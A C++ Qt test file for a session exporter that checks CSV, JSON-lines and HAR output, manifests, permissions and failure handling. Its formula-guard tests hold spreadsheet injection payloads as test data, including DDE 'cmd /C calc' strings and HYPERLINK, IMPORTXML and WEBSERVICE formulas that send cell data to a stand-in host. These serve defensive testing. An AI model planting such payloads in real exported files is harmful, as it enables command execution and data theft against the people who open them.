#include "core/exchange/csvcells.h"
#include "core/exchange/exporter.h"
#include "core/frame/framejson.h"
#include "core/store/sessionappend.h"
#include "tests/core/store/storefixture.h"

#include <QBuffer>
#include <QCoreApplication>
#include <QCryptographicHash>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QLocale>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>
#include <clocale>
#include <csignal>
#include <sys/resource.h>

using namespace framescope;
using namespace framescope::test;

namespace {

/// The CSV as Python's own csv module reads it: a list of rows, each an object by column name.
QJsonArray readByPython(const QByteArray& csv)
{
    QProcess python;
    python.start(
        QStringLiteral("python3"),
        {QStringLiteral("-c"), QStringLiteral("import csv,json,sys,io\n"
                                              "t=io.TextIOWrapper(sys.stdin.buffer,encoding='utf-8',newline='')\n"
                                              "print(json.dumps(list(csv.DictReader(t,strict=True))))")});
    python.write(csv);
    python.closeWriteChannel();
    if (!python.waitForFinished(60'000) || python.exitCode() != 0)
        qFatal("%s", python.readAllStandardError().constData());
    return QJsonDocument::fromJson(python.readAllStandardOutput()).array();
}

QByteArray cell(const QJsonValue& row, const char* column)
{
    const QJsonObject object = row.toObject();
    if (!object.contains(QLatin1String(column)))
        qFatal("no column %s", column);
    return object.value(QLatin1String(column)).toString().toUtf8();
}

/// What core/exchange/README.md tells a reader to do with a guarded cell.
QByteArray unguarded(const QByteArray& text)
{
    QByteArray original;
    bool isStart = true; // of a part
    for (qsizetype i = 0; i < text.size(); ++i) {
        if (!(isStart && text[i] == '\''))
            original += text[i];
        isStart = text[i] == '\n' || text[i] == ';' || text[i] == '\t' ||
                  (text[i] == '\r' && !(i + 1 < text.size() && text[i + 1] == '\n'));
    }
    return original;
}

} // namespace

class TestExporter : public QObject
{
    Q_OBJECT

private:
    QTemporaryDir m_folder;
    QString m_session;
    std::vector<std::shared_ptr<FrameBatch>> m_batches;
    quint64 m_events = 0;

    static QByteArray exported(const ExportRequest& request)
    {
        QBuffer buffer;
        buffer.open(QIODevice::WriteOnly);
        const auto result = exportTo(buffer, request);
        if (!result)
            qFatal("%s %s", qPrintable(result.error().detail), qPrintable(result.error().place));
        if (result->bytes != buffer.data().size() ||
            result->sha256Hex != QCryptographicHash::hash(buffer.data(), QCryptographicHash::Sha256).toHex())
            qFatal("the result does not say what was written");
        return buffer.data();
    }

    ExportRequest request(ExportWhat what, ExportFormat format) const
    {
        ExportRequest wanted;
        wanted.sessionPath = m_session;
        wanted.what = what;
        wanted.format = format;
        return wanted;
    }

    template <typename Each>
    void forEachFrame(const Each& each)
    {
        for (const auto& batch : m_batches) {
            for (std::size_t i = 0; i < batch->size(); ++i)
                each(*batch, i);
        }
    }

private Q_SLOTS:
    void initTestCase()
    {
        m_session = m_folder.filePath(QStringLiteral("s.framescope"));
        auto writer = SessionWriter::create(m_session, sessionInfo());
        QVERIFY(writer);
        for (unsigned i = 0; i < 5; ++i) {
            (void)(*writer)->append(connectedEvent(i == 3 ? QStringLiteral("=HYPERLINK(\"http://x\")\r\n'a,\"b\"")
                                                          : QStringLiteral("ws://127.0.0.1/")));
            ++m_events;
            m_batches.push_back(variedBatch(i * 60 + 1, 60, i));
            (*writer)->append(m_batches.back());
        }
        QVERIFY((*writer)->close());
    }

    void framesReadBackByPythonAreEqual()
    {
        const QByteArray csv = exported(request(ExportWhat::Frames, ExportFormat::Csv));
        QVERIFY(csv.startsWith(
            "frame_no,recv_utc,mono_ns,conn_id,attempt,dir,opcode,msg_type,msg_id,size_bytes,event_utc,"
            "latency_ms,verdict,rule_ids,schema_path,checksum,source,payload_sha256,preview,guarded,e2e_ms\r\n"));
        QCOMPARE(csv.count("\r\n"), csv.count('\n')); // RFC 4180: CRLF only; previews show line ends as escapes
        const QJsonArray rows = readByPython(csv);
        QCOMPARE(rows.size(), 300);
        int row = 0;
        forEachFrame([&](const FrameBatch& batch, std::size_t i) {
            const FrameHead& head = batch.heads[i];
            const QJsonValue read = rows[row++];
            QCOMPARE(cell(read, "frame_no"), QByteArray::number(head.number));
            QCOMPARE(cell(read, "recv_utc"), rfc3339Utc(head.wallNs));
            QCOMPARE(cell(read, "mono_ns"), QByteArray::number(head.monoNs));
            QCOMPARE(cell(read, "conn_id"), QByteArray::number(head.connection));
            QCOMPARE(cell(read, "attempt"), QByteArray::number(head.attempt));
            QCOMPARE(cell(read, "dir"), head.direction == Direction::In ? "in" : "out");
            QCOMPARE(cell(read, "opcode"), head.opcode == Opcode::Text ? "text" : "binary");
            QCOMPARE(cell(read, "msg_type"), batch.typeNameOf(i));
            QCOMPARE(cell(read, "msg_id"), batch.rangeOf(i, head.id));
            QCOMPARE(cell(read, "size_bytes"), QByteArray::number(head.sizeBytes));
            QCOMPARE(cell(read, "event_utc"), head.eventWallNs ? rfc3339Utc(head.eventWallNs) : QByteArray());
            QCOMPARE(cell(read, "e2e_ms").isEmpty(), head.eventWallNs == 0);
            if (head.eventWallNs != 0) // within half a microsecond, and negative where the clocks differ
                QVERIFY(std::abs(cell(read, "e2e_ms").toDouble() * 1e6 - double(head.wallNs - head.eventWallNs)) <=
                        501);
            QCOMPARE(qRound64(cell(read, "latency_ms").toDouble() * 1000), (qint64(head.parseNs) + 500) / 1000);
            QCOMPARE(cell(read, "verdict"), verdictName(head.verdict).data());
            QCOMPARE(cell(read, "rule_ids"), QByteArrayList(head.findingCount, "SCHEMA-REQUIRED").join(';'));
            QCOMPARE(cell(read, "schema_path"), head.findingCount ? "/properties/routing" : "");
            QCOMPARE(cell(read, "checksum"), checksumStateName(head.checksum).data());
            QCOMPARE(cell(read, "source"), head.flags & FrameFlag::Simulated ? "simulated" : "live");
            const bool gated = batch.digests[i] == Sha256Digest{};
            QCOMPARE(cell(read, "payload_sha256"), gated ? QByteArray() : toHex(batch.digests[i]));
            const QByteArrayView payload = batch.payloadOf(i);
            if (head.opcode == Opcode::Binary)
                QCOMPARE(cell(read, "preview"),
                         payload.first(qMin<qsizetype>(32, payload.size())).toByteArray().toHex());
            else
                QCOMPARE(cell(read, "preview"), payload);
            QCOMPARE(cell(read, "guarded"), "");
        });
    }

    void auditHoldsFramesAndEventsInOneOrder()
    {
        const QByteArray csv = exported(request(ExportWhat::Audit, ExportFormat::Csv));
        QVERIFY(csv.startsWith("seq,utc,mono_ns,severity,actor,action,object,frame_no,conn_id,attempt,verdict,rule_ids,"
                               "size_bytes,checksum,payload_sha256,detail,guarded\r\n"));
        const QJsonArray rows = readByPython(csv);
        QCOMPARE(rows.size(), qsizetype(300 + m_events));
        for (int i = 0; i < rows.size(); ++i) {
            QCOMPARE(cell(rows[i], "seq"), QByteArray::number(i + 1));
            QVERIFY(cell(rows[i], "utc").endsWith('Z'));
            const bool isEvent = i % 61 == 0;
            QCOMPARE(cell(rows[i], "frame_no").isEmpty(), isEvent);
            QCOMPARE(cell(rows[i], "verdict").isEmpty(), isEvent);
            QCOMPARE(cell(rows[i], "action").startsWith("frame-"), !isEvent);
            QVERIFY(QJsonDocument::fromJson(cell(rows[i], "detail")).isObject());
        }
        QCOMPARE(cell(rows[0], "action"), "connected");
        QCOMPARE(cell(rows[0], "conn_id"), "2");
        // The hostile object is harmless in a spreadsheet, and comes back.
        const QJsonValue hostile = rows[3 * 61];
        QCOMPARE(cell(hostile, "guarded"), "object");
        QVERIFY(cell(hostile, "object").startsWith("'="));
        auto reader = SessionReader::open(m_session);
        QCOMPARE(unguarded(cell(hostile, "object")), (*reader)->events(184, 184, 1)->front().object);
    }

    void rawCellsAreNotGuarded()
    {
        ExportRequest raw = request(ExportWhat::Audit, ExportFormat::Csv);
        raw.rawCells = true;
        const QJsonArray rows = readByPython(exported(raw));
        QVERIFY(cell(rows[183], "object").startsWith("=HYPERLINK"));
        QCOMPARE(cell(rows[183], "guarded"), "");
    }

    void eventsAloneAndFilteredFrames()
    {
        ExportRequest events = request(ExportWhat::Audit, ExportFormat::Csv);
        events.includeFrames = false;
        QCOMPARE(readByPython(exported(events)).size(), qsizetype(m_events));

        ExportRequest filtered = request(ExportWhat::Audit, ExportFormat::Csv);
        const auto filter = FrameFilter::parse(QStringLiteral("check.status == fail"));
        if (!filter)
            QSKIP("the filter is not there yet");
        filtered.filter = *filter;
        int refused = 0;
        forEachFrame(
            [&](const FrameBatch& batch, std::size_t i) { refused += batch.heads[i].verdict == Verdict::Refused; });
        QCOMPARE(readByPython(exported(filtered)).size(), qsizetype(m_events) + refused);
        filtered.what = ExportWhat::Frames;
        QCOMPARE(readByPython(exported(filtered)).size(), refused);
    }

    void guardsFormulas_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QByteArray>("wanted"); // null: untouched
        const auto guarded = [](const char* text, const char* wanted) {
            QTest::newRow(text) << QByteArray(text) << QByteArray(wanted);
        };
        const auto plain = [](const char* text) { QTest::newRow(text) << QByteArray(text) << QByteArray(); };
        guarded("=1+1", "'=1+1");
        guarded("+1", "'+1");
        guarded("-1", "'-1");
        guarded("@SUM(A1)", "'@SUM(A1)");
        guarded("\tx", "'\tx");
        guarded("\rx", "'\rx");
        guarded("\nx", "'\nx");
        guarded("  =x", "'  =x");
        guarded("\xc2\xa0=x", "'\xc2\xa0=x");
        guarded("\xef\xbc\x9d"
                "1",
                "'\xef\xbc\x9d"
                "1");
        guarded("\xef\xbc\xa0x", "'\xef\xbc\xa0x");
        guarded("a\r\n=b", "a\r\n'=b");
        guarded("a\n-b\n'c\nd", "a\n'-b\n''c\nd");
        guarded("a\r@b", "a\r'@b");
        guarded("a;=b", "a;'=b"); // German Excel splits at semicolons
        guarded("a; -b;'c", "a;' -b;''c");
        guarded("a\t=b", "a\t'=b");
        guarded("a;\"=b", "a;'\"=b");
        guarded("\t=", "'\t'=");
        plain("a;b\tc");
        plain("\"=b\"");
        plain("");
        plain("a=b");
        plain("'=quoted already");
        plain("{\"a\":\"=1\"}");
        plain("Zoë, \"Ü\"");
    }
    void guardsFormulas()
    {
        QFETCH(QByteArray, text);
        QFETCH(QByteArray, wanted);
        QCOMPARE(guardedCell(text), wanted);
        if (!wanted.isNull())
            QCOMPARE(unguarded(wanted), text);
    }

    void guardedRowsSurvivePython()
    {
        const QByteArrayList texts = {"=1+1",   "\tx", "\rx", "\nx", "  =x", "a\r\n=b\r\n'c", "a\n\n-b",
                                      "\"=x\"", "a,b", " ",   "",    "a;=b", "a\tb"};
        constexpr const char* columns[] = {"first", "number", "text", "guarded"};
        CsvRow row(columns, false);
        QByteArray csv = CsvRow::header(columns);
        for (const QByteArray& text : texts) {
            row.text("x");
            row.number(qint64(-12));
            row.text(text);
            csv += row.end();
        }
        const QJsonArray rows = readByPython(csv);
        QCOMPARE(rows.size(), texts.size());
        for (int i = 0; i < rows.size(); ++i) {
            QCOMPARE(cell(rows[i], "number"), "-12"); // a number stays one
            const bool guarded = cell(rows[i], "guarded") == "text";
            QCOMPARE(guarded, !guardedCell(texts[i]).isNull());
            const QByteArray read = cell(rows[i], "text");
            QCOMPARE(guarded ? unguarded(read) : read, texts[i].constData());
        }
    }

    /// What a spreadsheet could take for a formula, written a hundred ways, as message ids and as a file's own text.
    void hundredHostileCellsAreGuardedInEveryColumn()
    {
        const QByteArrayList starts{"=", "+", "-", "@", "\t", "\r", "\n", " =", "\xc2\xa0=", "\xef\xbc\x9d"};
        const QByteArrayList rests{"1+1",
                                   "cmd|' /C calc'!A0",
                                   "HYPERLINK(\"http://x/?\"&A1,\"click\")",
                                   "SUM(A1:A9)*2",
                                   "DDE(\"cmd\";\"/C calc\";\"!A0\")",
                                   "IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
                                   "2+3\r\n=4",
                                   "\"quoted\",\"more\"",
                                   "WEBSERVICE(\"http://x\")",
                                   "'apostrophe"};
        const QString path = m_folder.filePath(QStringLiteral("hostile.framescope"));
        auto writer = SessionWriter::create(path, sessionInfo());
        QVERIFY(writer);
        QByteArrayList texts;
        for (const QByteArray& start : starts) {
            for (const QByteArray& rest : rests)
                texts += start + rest;
        }
        for (const QByteArray& text : texts) {
            AuditEvent event = connectedEvent();
            event.object = text;
            (void)(*writer)->append(event);
            (*writer)->append(
                makeBatch({{.type = text, .payload = text, .opcode = Opcode::Text}}, quint64(texts.indexOf(text)) + 1));
        }
        QVERIFY((*writer)->close());
        ExportRequest hostile = request(ExportWhat::Frames, ExportFormat::Csv);
        hostile.sessionPath = path;
        const QJsonArray frames = readByPython(exported(hostile));
        hostile.what = ExportWhat::Audit;
        hostile.includeFrames = false;
        const QJsonArray events = readByPython(exported(hostile));
        QCOMPARE(frames.size(), 100);
        QCOMPARE(events.size(), 100);
        const auto isHarmless = [](const QByteArray& text) { return guardedCell(text).isNull(); };
        for (int i = 0; i < 100; ++i) {
            QVERIFY2(isHarmless(cell(frames[i], "msg_type")) && isHarmless(cell(frames[i], "preview")),
                     texts[i].constData());
            QCOMPARE(cell(frames[i], "guarded").split(';').contains("msg_type"), !isHarmless(texts[i]));
            QVERIFY2(isHarmless(cell(events[i], "object")), texts[i].constData());
            QCOMPARE(unguarded(cell(events[i], "object")), texts[i]);
        }
    }

    void sqliteReadsTheSameRowsAsPython()
    {
        const QString csv = m_folder.filePath(QStringLiteral("for-sqlite.csv"));
        QVERIFY(exportToFile(csv, request(ExportWhat::Audit, ExportFormat::Csv)));
        QProcess sqlite;
        sqlite.setWorkingDirectory(m_folder.path());
        sqlite.start(QStringLiteral("sqlite3"),
                     {QStringLiteral(":memory:"), QStringLiteral(".mode json"),
                      QStringLiteral(".import --csv for-sqlite.csv rows"), QStringLiteral("select * from rows")});
        if (!sqlite.waitForStarted())
            QSKIP("sqlite3 is not installed");
        QVERIFY(sqlite.waitForFinished(60'000));
        QCOMPARE(sqlite.readAllStandardError(), QByteArray());
        const QJsonArray bySqlite = QJsonDocument::fromJson(sqlite.readAllStandardOutput()).array();
        QFile file(csv);
        QVERIFY(file.open(QIODevice::ReadOnly));
        const QJsonArray byPython = readByPython(file.readAll());
        QCOMPARE(bySqlite.size(), qsizetype(300 + m_events));
        QCOMPARE(bySqlite, byPython);
    }

    void scopeTakesTimesAndSelectedFrames()
    {
        const auto numbersOf = [](const ExportRequest& wanted) {
            QList<int> numbers;
            for (const QJsonValue& row : readByPython(exported(wanted)))
                numbers += cell(row, "frame_no").toInt();
            return numbers;
        };
        ExportRequest selected = request(ExportWhat::Frames, ExportFormat::Csv);
        selected.scope.spans = {{3, 4}, {60, 61}, {299, 1'000}};
        QCOMPARE(numbersOf(selected), (QList<int>{3, 4, 60, 61, 299, 300}));
        selected.what = ExportWhat::Audit; // no events: nobody selected one
        QCOMPARE(numbersOf(selected), (QList<int>{3, 4, 60, 61, 299, 300}));

        ExportRequest timed = request(ExportWhat::Frames, ExportFormat::Csv);
        timed.scope.fromWallNs = m_batches[1]->heads[10].wallNs;
        timed.scope.untilWallNs = m_batches[2]->heads[20].wallNs;
        QList<int> expected;
        forEachFrame([&](const FrameBatch& batch, std::size_t i) {
            const FrameHead& head = batch.heads[i];
            if (head.wallNs >= timed.scope.fromWallNs && head.wallNs <= timed.scope.untilWallNs)
                expected += int(head.number);
        });
        QVERIFY(expected.size() > 10 && expected.size() < 200);
        QCOMPARE(numbersOf(timed), expected);
    }

    void marksOfTheFileSayWhatIsExported()
    {
        const QString path = m_folder.filePath(QStringLiteral("marked.framescope"));
        {
            auto writer = SessionWriter::create(path, sessionInfo());
            QVERIFY(writer);
            (*writer)->append(variedBatch(1, 60, 1));
            (void)(*writer)->append(markedEvent({5, 8}));
            (*writer)->append(variedBatch(61, 60, 2));
            (void)(*writer)->append(markedEvent({70, 70}, QStringLiteral("look")));
            QVERIFY((*writer)->close());
        }
        // Afterwards too, several at once and in order.
        QVERIFY(appendEventsToFinishedSession(path, {unmarkedEvent({6, 6}), markedEvent({120, 120})}));
        const FrameSpans marked{{5, 5}, {7, 8}, {70, 70}, {120, 120}};
        QCOMPARE((*(*SessionReader::open(path))->marks())->spans(), marked);

        const auto numbersOf = [](const ExportRequest& wanted) {
            QList<int> numbers;
            for (const QJsonValue& row : readByPython(exported(wanted)))
                numbers += cell(row, "frame_no").toInt();
            return numbers;
        };
        ExportRequest wanted = request(ExportWhat::Frames, ExportFormat::Csv);
        wanted.sessionPath = path;
        wanted.scope.onlyMarked = true;
        QCOMPARE(numbersOf(wanted), (QList<int>{5, 7, 8, 70, 120}));
        ExportRequest both = wanted;
        both.scope.spans = {{8, 100}};
        QCOMPARE(numbersOf(both), (QList<int>{8, 70}));
        ExportRequest filtered = wanted;
        filtered.scope.onlyMarked = false;
        filtered.filter = *FrameFilter::parse(QStringLiteral("frame.mark frame.no > 7"));
        QCOMPARE(numbersOf(filtered), (QList<int>{8, 70, 120}));
        ExportRequest har = wanted;
        har.format = ExportFormat::Har;
        QCOMPARE(exported(har).count("\"frame_no\":"), qsizetype(5));

        const QString csv = m_folder.filePath(QStringLiteral("marked.csv"));
        QVERIFY(exportToFile(csv, wanted));
        QFile manifest(csv + QStringLiteral(".manifest.json"));
        QVERIFY(manifest.open(QIODevice::ReadOnly));
        const QJsonValue scope = QJsonDocument::fromJson(manifest.readAll()).object().value(QStringLiteral("scope"));
        QCOMPARE(scope[QStringLiteral("kind")].toString(), QStringLiteral("marked"));
        QCOMPARE(scope[QStringLiteral("frames")].toArray().size(), qsizetype(4));

        ExportRequest none = request(ExportWhat::Audit, ExportFormat::Csv);
        none.scope.onlyMarked = true; // of a session without marks: nothing, not everything
        QVERIFY(readByPython(exported(none)).isEmpty());
    }

    void saysThatMoreIsMarkedThanItKnows()
    {
        const QString path = m_folder.filePath(QStringLiteral("many-marks.framescope"));
        auto writer = SessionWriter::create(path, sessionInfo());
        QVERIFY(writer);
        for (quint64 i = 1; i <= FrameMarks::spanLimit + 2; ++i)
            (void)(*writer)->append(markedEvent({i * 2, i * 2}));
        QVERIFY((*writer)->close());
        ExportRequest wanted = request(ExportWhat::Frames, ExportFormat::Csv);
        wanted.sessionPath = path;
        wanted.scope.onlyMarked = true;
        wanted.scope.spans = {{1, 10}};
        const QString csv = m_folder.filePath(QStringLiteral("many-marks.csv"));
        const auto result = exportToFile(csv, wanted);
        QVERIFY(result);
        QCOMPARE(result->marksPassedOver, 2u);
        QFile manifest(csv + QStringLiteral(".manifest.json"));
        QVERIFY(manifest.open(QIODevice::ReadOnly));
        const QJsonValue scope = QJsonDocument::fromJson(manifest.readAll()).object().value(QStringLiteral("scope"));
        QCOMPARE(scope[QStringLiteral("marks_passed_over")].toInteger(), 2);
    }

    void manifestSaysWhatWasExported()
    {
        const QString path = m_folder.filePath(QStringLiteral("said.csv"));
        ExportRequest wanted = request(ExportWhat::Frames, ExportFormat::Csv);
        wanted.filter = *FrameFilter::parse(QStringLiteral("check.status == fail"));
        wanted.scope.spans = {{10, 200}};
        const auto result = exportToFile(path, wanted);
        QVERIFY(result);
        QFile exportedFile(path);
        QFile manifestFile(path + QStringLiteral(".manifest.json"));
        QVERIFY(exportedFile.open(QIODevice::ReadOnly) && manifestFile.open(QIODevice::ReadOnly));
        const QByteArray csv = exportedFile.readAll();
        const QJsonObject manifest = QJsonDocument::fromJson(manifestFile.readAll()).object();
        const auto member = [&manifest](const char* name) { return manifest[QLatin1String(name)]; };
        QCOMPARE(member("filter").toString(), QStringLiteral("check.status == fail"));
        QCOMPARE(member("scope")[QStringLiteral("frames")].toArray(), (QJsonArray{QJsonArray{10, 200}}));
        QCOMPARE(member("rows").toInteger(), qint64(readByPython(csv).size()));
        QCOMPARE(member("first_frame").toInteger(), qint64(result->firstFrame));
        QVERIFY(result->firstFrame >= 10 && result->lastFrame <= 200);
        QCOMPARE(member("file")[QStringLiteral("sha256")].toString().toLatin1(),
                 QCryptographicHash::hash(csv, QCryptographicHash::Sha256).toHex());
        QCOMPARE(member("file")[QStringLiteral("bytes")].toInteger(), csv.size());
        QCOMPARE(member("session")[QStringLiteral("id")].toString().toLatin1(), sessionInfo().sessionId);
        QCOMPARE(member("audit")[QStringLiteral("seq")].toInteger(), qint64(300 + m_events));
        QCOMPARE(member("audit")[QStringLiteral("head")].toString().size(), 64);
        constexpr auto others = QFileDevice::Permissions(0x0077);
        QCOMPARE(manifestFile.permissions() & others, QFileDevice::Permissions());
    }

    void manifestCountsTheLossesOfItsRange()
    {
        const QString session = m_folder.filePath(QStringLiteral("losses.framescope"));
        auto writer = SessionWriter::create(session, sessionInfo());
        QVERIFY(writer);
        (*writer)->append(variedBatch(1, 20, 1));
        (void)(*writer)->append(auditEvent(AuditAction::Gap, Severity::Warning, QStringLiteral("ws://h/"),
                                           {{QStringLiteral("ms"), 1'200}}));
        (*writer)->append(variedBatch(21, 20, 2));
        QVERIFY((*writer)->close());
        const QString path = m_folder.filePath(QStringLiteral("losses.csv"));
        const auto gapsIn = [&](FrameSpans spans) {
            ExportRequest wanted = request(ExportWhat::Frames, ExportFormat::Csv);
            wanted.sessionPath = session;
            wanted.scope.spans = std::move(spans);
            if (!exportToFile(path, wanted))
                return -1;
            QFile manifest(path + QStringLiteral(".manifest.json"));
            if (!manifest.open(QIODevice::ReadOnly))
                return -1;
            const QJsonValue losses = QJsonDocument::fromJson(manifest.readAll())[QStringLiteral("losses")];
            return losses[QStringLiteral("counts")][QStringLiteral("gap")].toInt();
        };
        QCOMPARE(gapsIn({}), 1);
        QCOMPARE(gapsIn({{15, 25}}), 1);
        QCOMPARE(gapsIn({{21, 25}}), 0);
    }

    void jsonLinesHoldEachFrame()
    {
        const QByteArrayList lines = exported(request(ExportWhat::Frames, ExportFormat::JsonLines)).split('\n');
        QCOMPARE(lines.size(), 301);
        QVERIFY(lines.back().isEmpty());
        int row = 0;
        forEachFrame([&](const FrameBatch& batch, std::size_t i) {
            const FrameHead& head = batch.heads[i];
            QCOMPARE(lines[row] + '\n', frameToJsonLine(batch, i)); // what an outlet sends
            QJsonParseError error;
            const QJsonObject line = QJsonDocument::fromJson(lines[row++], &error).object();
            QCOMPARE(error.error, QJsonParseError::NoError);
            QCOMPARE(line[QStringLiteral("frame_no")].toInteger(), qint64(head.number));
            QCOMPARE(line[QStringLiteral("findings")].toArray().size(), head.findingCount);
            QCOMPARE(line.contains(QStringLiteral("e2e_ms")), head.eventWallNs != 0);
            QCOMPARE(line[QStringLiteral("event_utc")].toString().toLatin1(),
                     head.eventWallNs ? rfc3339Utc(head.eventWallNs) : QByteArray());
            const QByteArrayView payload = batch.payloadOf(i);
            const bool json = head.opcode == Opcode::Text && head.verdict != Verdict::Refused && !payload.isEmpty();
            QCOMPARE(line.contains(QStringLiteral("payload")), json);
            if (json)
                QCOMPARE(line[QStringLiteral("payload")].toObject(),
                         QJsonDocument::fromJson(payload.toByteArray()).object());
            else
                QCOMPARE(QByteArray::fromBase64(line[QStringLiteral("payload_base64")].toString().toLatin1()), payload);
        });
        for (const QByteArray& line : exported(request(ExportWhat::Audit, ExportFormat::JsonLines)).split('\n'))
            QVERIFY(line.isEmpty() || QJsonDocument::fromJson(line).object().contains(QStringLiteral("detail")));
    }

    void foreignPayloadCannotBreakTheLine()
    {
        FrameSpec spec;
        spec.payload = "{\"a\":1}\n{\"forged\":true}"; // a file may claim that this is JSON
        const auto batch = makeBatch({spec});
        const QByteArray line = frameToJsonLine(*batch, 0, PayloadTrust::Foreign);
        QCOMPARE(line.count('\n'), 1);
        const QJsonObject object = QJsonDocument::fromJson(line).object();
        QCOMPARE(QByteArray::fromBase64(object[QStringLiteral("payload_base64")].toString().toLatin1()), spec.payload);

        spec.payload = "{\"a\":\n1}"; // line ends in a valid document become spaces
        const QJsonObject valid = QJsonDocument::fromJson(frameToJsonLine(*makeBatch({spec}), 0)).object();
        QCOMPARE(valid[QStringLiteral("payload")].toObject().value(QStringLiteral("a")).toInt(), 1);
    }

    void localeHasNoEffect()
    {
        const QByteArray before = exported(request(ExportWhat::Frames, ExportFormat::Csv));
        const QLocale qt;
        QLocale::setDefault(QLocale(QLocale::German, QLocale::Germany));
        const char* known = std::setlocale(LC_ALL, "de_DE.UTF-8"); // where it is installed
        const QByteArray after = exported(request(ExportWhat::Frames, ExportFormat::Csv));
        std::setlocale(LC_ALL, "C.UTF-8");
        QLocale::setDefault(qt);
        Q_UNUSED(known)
        QCOMPARE(after, before);
        QCOMPARE(millisecondsText(1'234'567'890), "1234.568");
        QCOMPARE(millisecondsText(0), "0.000");
        QCOMPARE(millisecondsText(-1'234'567'890), "-1234.568");
        QCOMPARE(millisecondsText(-100), "0.000");
        QCOMPARE(millisecondsText(49'999), "0.050");
    }

    void byteOrderMarkIsAnOption()
    {
        ExportRequest marked = request(ExportWhat::Audit, ExportFormat::Csv);
        const QByteArray without = exported(marked);
        marked.byteOrderMark = true;
        QCOMPARE(exported(marked), "\xef\xbb\xbf" + without);
        marked.format = ExportFormat::JsonLines; // RFC 8259 section 8.1 forbids it there
        QVERIFY(exported(marked).startsWith('{'));
    }

    void fileIsTheSameBytesForTheOwnerOnly()
    {
        const QString path = m_folder.filePath(QStringLiteral("frames.csv"));
        const ExportRequest wanted = request(ExportWhat::Frames, ExportFormat::Csv);
        const auto result = exportToFile(path, wanted);
        QVERIFY(result);
        QCOMPARE(result->rows, 300u);
        QFile file(path);
        QVERIFY(file.open(QIODevice::ReadOnly));
        QCOMPARE(file.readAll(), exported(wanted));
        constexpr auto others = QFileDevice::Permissions(0x0077);
        QCOMPARE(file.permissions() & others, QFileDevice::Permissions());
    }

    void cancelLeavesNothing()
    {
        QTemporaryDir folder;
        const QString path = folder.filePath(QStringLiteral("audit.csv"));
        quint64 last = 0;
        quint64 all = 0;
        const auto cancelled =
            exportToFile(path, request(ExportWhat::Audit, ExportFormat::Csv), [&](quint64 done, quint64 of) {
                last = done;
                all = of;
                return done < 100;
            });
        QVERIFY(!cancelled);
        QVERIFY(cancelled.error().code == ErrorCode::Cancelled);
        QVERIFY(last >= 100);
        QCOMPARE(all, 300 + m_events);
        QVERIFY(QDir(folder.path()).isEmpty(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot));
    }

    void failureKeepsTheFileThatWasThere()
    {
        QTemporaryDir folder;
        const QString path = folder.filePath(QStringLiteral("audit.csv"));
        QFile old(path);
        QVERIFY(old.open(QIODevice::WriteOnly));
        old.write("old");
        old.close();
        ExportRequest missing = request(ExportWhat::Audit, ExportFormat::Csv);
        missing.sessionPath = folder.filePath(QStringLiteral("missing.framescope"));
        QVERIFY(exportToFile(path, missing).error().code == ErrorCode::NotFound);
        QVERIFY(exportToFile(folder.filePath(QStringLiteral("no/such/folder.csv")),
                             request(ExportWhat::Audit, ExportFormat::Csv))
                    .error()
                    .code == ErrorCode::Io);
        QVERIFY(exportToFile(m_session, request(ExportWhat::Audit, ExportFormat::Csv)).error().code ==
                ErrorCode::Refused);
        QVERIFY(QFile::link(path, folder.filePath(QStringLiteral("link.csv"))));
        QVERIFY(exportToFile(folder.filePath(QStringLiteral("link.csv")), request(ExportWhat::Audit, ExportFormat::Csv))
                    .error()
                    .code == ErrorCode::Refused);
        QVERIFY(old.open(QIODevice::ReadOnly));
        QCOMPARE(old.readAll(), "old");
    }

    void fullDiskLeavesWhatWasThere_data()
    {
        QTest::addColumn<ExportFormat>("format");
        QTest::newRow("CSV") << ExportFormat::Csv;
        QTest::newRow("JSON lines") << ExportFormat::JsonLines;
        QTest::newRow("HAR") << ExportFormat::Har;
    }
    /// Files may not grow beyond a limit, as on a full disk: at the first byte, in the middle, before the last one.
    void fullDiskLeavesWhatWasThere()
    {
        QFETCH(ExportFormat, format);
        const ExportRequest wanted = request(ExportWhat::Frames, format);
        const auto size = rlim_t(exported(wanted).size());
        std::signal(SIGXFSZ, SIG_IGN);
        rlimit before{};
        QCOMPARE(getrlimit(RLIMIT_FSIZE, &before), 0);
        QTemporaryDir folder;
        const QString path = folder.filePath(QStringLiteral("frames"));
        const auto files = [&] {
            return QDir(folder.path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot);
        };
        for (const rlim_t limit : {rlim_t(1), size / 2, size - 1, before.rlim_cur}) {
            const rlimit narrow{limit, before.rlim_max};
            QCOMPARE(setrlimit(RLIMIT_FSIZE, &narrow), 0);
            const auto result = exportToFile(path, wanted);
            setrlimit(RLIMIT_FSIZE, &before);
            QCOMPARE(result.has_value(), limit == before.rlim_cur);
            if (result)
                continue;
            QVERIFY(result.error().code == ErrorCode::Io && !result.error().detail.isEmpty());
            QCOMPARE(result.error().place, path);
            QCOMPARE(files(), QStringList());
        }
        QCOMPARE(files().size(), 2); // and then there is room again
    }

    void fullDeviceIsAnError()
    {
        QFile full(QStringLiteral("/dev/full"));
        if (!full.open(QIODevice::WriteOnly | QIODevice::Unbuffered))
            QSKIP("no /dev/full");
        const auto result = exportTo(full, request(ExportWhat::Audit, ExportFormat::Csv));
        QVERIFY(!result);
        QVERIFY(result.error().code == ErrorCode::Io);
    }

    void runningSessionCanBeExported()
    {
        const QString path = m_folder.filePath(QStringLiteral("running.framescope"));
        auto writer = SessionWriter::create(path, sessionInfo());
        QVERIFY(writer);
        (*writer)->append(variedBatch(1, 50, 1));
        QTRY_COMPARE((*writer)->status().durableSeq, 50u);
        ExportRequest running = request(ExportWhat::Frames, ExportFormat::Csv);
        running.sessionPath = path;
        QCOMPARE(readByPython(exported(running)).size(), 50);
        QVERIFY((*writer)->close());
    }
};

QTEST_GUILESS_MAIN(TestExporter)
#include "tst_exporter.moc"
